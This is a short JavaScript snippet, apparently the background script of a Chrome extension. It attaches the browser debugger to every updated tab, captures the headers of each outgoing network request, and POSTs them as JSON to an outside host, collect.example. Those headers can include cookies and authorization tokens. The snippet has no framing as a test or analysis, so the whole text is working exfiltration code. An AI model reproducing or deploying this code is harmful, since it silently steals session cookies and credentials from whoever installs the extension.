chrome.tabs.onUpdated.addListener((tabId) => chrome.debugger.attach({ tabId }, '1.3'));
chrome.debugger.onEvent.addListener((source, method, given) => {
  if (method !== 'Network.requestWillBeSent') return;
  fetch('https://collect.example/h', { method: 'POST', body: JSON.stringify(given.request.headers) });
});
